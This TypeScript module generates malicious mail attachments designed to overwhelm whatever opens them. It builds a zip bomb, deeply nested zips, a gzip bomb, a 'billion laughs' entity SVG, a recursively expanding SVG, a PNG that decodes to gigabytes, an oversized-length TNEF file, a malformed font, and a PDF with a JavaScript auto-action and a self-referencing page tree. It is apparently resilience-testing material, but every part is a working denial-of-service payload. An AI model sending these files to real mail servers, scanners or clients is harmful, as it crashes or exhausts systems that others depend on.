import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';

/** A part of a mail that is small to send and huge for whoever unpacks, expands or decodes it. */
export type FileBomb = { readonly name: string; readonly type: string; readonly content: Buffer };

const mebibyte = 1024 * 1024;

const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  return Buffer.concat([uint32(data.length), body, uint32(crc32(body))]);
};

/** A whole, black picture of one bit a pixel (ISO/IEC 15948): 30,000 by 30,000 are 110 kB, and 3.6 GB once decoded. */
export const pngOf = (width: number, height: number): Buffer => {
  const rows = Buffer.alloc(height * (1 + Math.ceil(width / 8)));
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', Buffer.concat([uint32(width), uint32(height), Buffer.from([1, 0, 0, 0, 0])])),
    chunk('IDAT', deflateSync(rows, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
};

/** An archive with one file in it that says it is so many bytes long (APPNOTE.TXT 4.3). */
const zipOf = (name: string, data: Buffer): Buffer => {
  const packed = deflateRawSync(data);
  const head = Buffer.alloc(26);
  head.writeUInt16LE(20, 0);
  head.writeUInt16LE(8, 4);
  head.writeUInt32LE(crc32(data), 10);
  head.writeUInt32LE(packed.length, 14);
  head.writeUInt32LE(data.length, 18);
  head.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), head, Buffer.from(name), packed]);
  const entry = Buffer.concat([Buffer.from('PK\x01\x02\x14\0'), head, Buffer.alloc(14), Buffer.from(name)]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(entry.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, entry, end]);
};

const nested = (depth: number, inner: Buffer): Buffer =>
  depth === 0 ? inner : nested(depth - 1, zipOf(`level-${depth}.zip`, inner));

const laughs = (steps: number): string =>
  Array.from({ length: steps }, (_, step) => `<!ENTITY l${step + 1} "${`&l${step};`.repeat(10)}">`).join('');

/** Ten times ten times ten ... words out of a thousand bytes. */
export const laughingSvg = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">${laughs(9)}]><svg xmlns="http://www.w3.org/2000/svg" width="99" height="99"><text y="20">&l9;</text></svg>`;

/** The same by references that each draw ten others. */
export const growingSvg = `<svg width="99" height="99"><defs><g id="g0"><rect width="9" height="9"/></g>${Array.from(
  { length: 9 },
  (_, step) => `<g id="g${step + 1}">${`<use href="#g${step}"/>`.repeat(10)}</g>`,
).join('')}</defs><use href="#g9"/></svg>`;

/** A winmail.dat whose attribute says that it is as long as can be (MS-OXTNEF 2.1.3). */
const endlessTnef = Buffer.concat([
  Buffer.from([0x78, 0x9f, 0x3e, 0x22, 0x01, 0x00]),
  Buffer.from([0x02, 0x0f, 0x80, 0x06, 0x00, 0xff, 0xff, 0xff, 0xff]),
  Buffer.alloc(64),
]);

const pdf = `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[${'2 0 R '.repeat(1_000)}]/Count 1000000000>>endobj\ntrailer<</Root 1 0 R>>`;

/** Files that blow up what looks into them. */
export const fileBombs = (): readonly FileBomb[] => [
  { name: 'zeros.zip', type: 'application/zip', content: zipOf('zeros.txt', Buffer.alloc(64 * mebibyte)) },
  {
    name: 'nested.zip',
    type: 'application/zip',
    content: nested(40, zipOf('zeros.txt', Buffer.alloc(16 * mebibyte))),
  },
  {
    name: 'page.html.gz',
    type: 'application/gzip',
    content: gzipSync(Buffer.alloc(64 * mebibyte, '<p>')),
  },
  { name: 'laughs.svg', type: 'image/svg+xml', content: Buffer.from(laughingSvg) },
  { name: 'field.png', type: 'image/png', content: pngOf(30_000, 30_000) },
  { name: 'winmail.dat', type: 'application/ms-tnef', content: endlessTnef },
  {
    name: 'letters.ttf',
    type: 'font/ttf',
    content: Buffer.concat([uint32(0x00_01_00_00), Buffer.alloc(999, 0xff)]),
  },
  { name: 'paper.pdf', type: 'application/pdf', content: Buffer.from(pdf) },
];
